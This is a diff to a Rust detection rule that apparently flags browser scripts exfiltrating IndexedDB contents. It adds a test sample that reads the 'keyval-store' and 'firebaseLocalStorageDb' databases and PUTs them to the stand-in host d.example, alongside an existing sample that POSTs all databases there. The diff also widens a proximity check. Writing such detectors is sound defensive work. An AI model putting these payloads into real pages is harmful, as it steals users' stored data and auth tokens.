@@ -20,6 +20,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             r#"for(const d of await indexedDB.databases()){const s=await open(d.name);out.push(await all(s.getAll()))}fetch('https://d.example/i',{method:'POST',body:JSON.stringify(out)})"#,
+            r#"const all=(name,store)=>new Promise(ok=>{const q=indexedDB.open(name);q.onsuccess=()=>{const r=q.result.transaction(store).objectStore(store).getAll();r.onsuccess=()=>ok(r.result)}});(async()=>{const seen={};const names=(await indexedDB.databases()).map(d=>d.name);for(const [d,s] of [['keyval-store','keyval'],['firebaseLocalStorageDb','firebaseLocalStorage']])if(names.includes(d))seen[d]=await all(d,s);const x=new XMLHttpRequest;x.open('PUT','https://d.example/'+location.hostname);x.send(JSON.stringify(seen))})()"#,
         ],
         without: &[
             r#"for(const d of await indexedDB.databases())indexedDB.deleteDatabase(d.name);fetch('/logout',{method:'POST'})"#,
@@ -29,5 +30,5 @@ pub(super) const SIGNAL: Signal = Signal {
 };
 
 fn reads(evidence: &Evidence<'_>, held: Held) -> bool {
-    Near::new(evidence, held, 40).has_word(&["getAll", "openCursor"])
+    Near::new(evidence, held, 160).has_word(&["getAll", "openCursor"])
 }
